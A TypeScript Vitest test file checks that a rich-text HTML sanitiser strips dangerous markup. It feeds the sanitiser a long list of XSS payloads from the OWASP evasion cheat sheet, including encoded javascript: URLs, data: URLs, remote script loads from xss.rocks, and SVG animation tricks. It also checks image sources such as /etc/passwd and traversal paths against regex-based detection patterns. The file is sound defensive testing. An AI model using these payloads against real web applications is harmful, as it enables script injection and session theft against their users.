import { describe, expect, it } from "vitest";
import { imageSources, sanitizeRichText } from "./sanitize-html.ts";

// Payloads from the OWASP XSS Filter Evasion Cheat Sheet, plus a few modern ones (SVG, MathML, data: URLs).
const PAYLOADS = [
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<p style="x:expr/**/ession(alert('XSS'))">text</p>`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href="&#106;avascript:alert(1)">click</a>`,
  `<a href="jav&#x09;ascript:alert(1)">click</a>`,
  `<a href=" javascript:alert(1)">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href="http://example.com" onclick="alert(1)">click</a>`,
  `<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<form><button formaction="javascript:alert(1)">x</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<p><svg><style><img src=x onerror=alert(1)></style></svg></p>`,
  `<template><script>alert(1)</script></template>`,
  `<img src="http://example.com/a.png" srcset="javascript:alert(1)">`,
  // The shapes of sanitize-html's two advisories after the 2.17.5 this project pins on Node 20 (ADR 0004,
  // 0017): a literal `</textarea/>` that let markup out of a kept textarea (GHSA-jxwj-j7wr-gfrw), and an
  // SVG animation whose value list carries a javascript: URL past the scheme check (GHSA-g8qq-57p8-ggw5).
  // This allow-list keeps neither element, and these prove it.
  `<textarea></textarea/><img src=x onerror=alert(1)>`,
  `<p><textarea><p></textarea/><img src=x onerror=alert(1)></p></textarea></p>`,
  `<svg><a><animate attributeName="href" values="https://ok.example;javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>`,
  `<a><animate attributeName="href" values="javascript:alert(1)"/>x</a>`,
  `<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
];

function assertHarmless(out: string) {
  const lower = out.toLowerCase();
  expect(lower).not.toMatch(/<\s*(script|style|iframe|frame|frameset|object|embed|svg|math|meta|link|base|body|form|button|input|table|div|bgsound|details|noscript|template)\b/);
  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
  expect(lower).not.toMatch(/(javascript|vbscript|data):/);
  expect(lower).not.toMatch(/\s(style|srcset|dynsrc|lowsrc|background|formaction|xlink:href)\s*=/);
  // Every tag left is on the allow-list.
  for (const [, tag] of out.matchAll(/<\/?\s*([a-z0-9]+)/gi)) {
    expect(["p", "br", "strong", "em", "u", "s", "h2", "h3", "ul", "ol", "li", "blockquote", "code", "pre", "a", "img"]).toContain(tag!.toLowerCase());
  }
}

describe("sanitizeRichText", () => {
  it.each(PAYLOADS.map((p) => [p]))("neutralises %s", (payload) => {
    assertHarmless(sanitizeRichText(payload));
  });

  it("neutralises every payload wrapped in allowed markup too", () => {
    for (const payload of PAYLOADS) assertHarmless(sanitizeRichText(`<p><strong>${payload}</strong></p>`));
  });

  it("keeps the allowed formatting as it is", () => {
    const html =
      "<h2>日程</h2><p>Hello <strong>world</strong>, <em>e</em> <u>u</u> <s>s</s><br /></p><ul><li>一</li></ul><ol><li>二</li></ol><blockquote>q</blockquote><pre><code>x &lt; y</code></pre><h3>t</h3>";
    expect(sanitizeRichText(html)).toBe(html);
  });

  it("forces rel and target on links and keeps http, https and mailto", () => {
    expect(sanitizeRichText(`<a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">x</a>`)).toBe(
      `<a href="https://example.com/x?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
    );
    expect(sanitizeRichText(`<a href="mailto:a@example.com">m</a>`)).toContain(`href="mailto:a@example.com"`);
  });

  it("keeps a refused link's text but drops its target, including relative and protocol-relative ones", () => {
    expect(sanitizeRichText(`<a href="javascript:alert(1)">click</a>`)).toBe("<a>click</a>");
    expect(sanitizeRichText(`<a href="//evil.example/">x</a>`)).toBe("<a>x</a>");
    expect(sanitizeRichText(`<a href="/admin">x</a>`)).toBe("<a>x</a>");
  });

  it("keeps images from http(s) and our own /files/, and removes any other image entirely", () => {
    expect(sanitizeRichText(`<img src="/files/u/abc.webp" alt="封面" title="t" width="9">`)).toBe(`<img src="/files/u/abc.webp" alt="封面" />`);
    expect(sanitizeRichText(`<img src="https://example.com/a.png">`)).toBe(`<img src="https://example.com/a.png" />`);
    expect(sanitizeRichText(`<p>a<img src="/etc/passwd">b</p>`)).toBe("<p>ab</p>");
    expect(sanitizeRichText(`<p>a<img src="/files/../secret">b</p>`)).toBe("<p>ab</p>");
    expect(sanitizeRichText(`<p>a<img src="//evil.example/x.png">b</p>`)).toBe("<p>ab</p>");
  });

  it("lists the images of sanitised text as a browser reads their sources (entities decoded)", () => {
    const clean = sanitizeRichText(`<p>a<IMG SRC="/files/u/a.png?x=1&y=2"><img src="https://example.com/b.png"></p><img src="javascript:alert(1)">`);
    expect(imageSources(clean)).toEqual(["/files/u/a.png?x=1&y=2", "https://example.com/b.png"]);
    expect(imageSources("")).toEqual([]);
  });

  it("drops unknown tags but keeps their text, and drops the content of script and style", () => {
    expect(sanitizeRichText(`<h1>大标题</h1><div><span>文字</span></div>`)).toBe("大标题文字");
    expect(sanitizeRichText(`<p>a<script>alert(1)</script><style>p{}</style>b</p>`)).toBe("<p>ab</p>");
  });

  it("escapes text so it cannot become markup", () => {
    expect(sanitizeRichText(`<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`)).toBe("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
  });
});
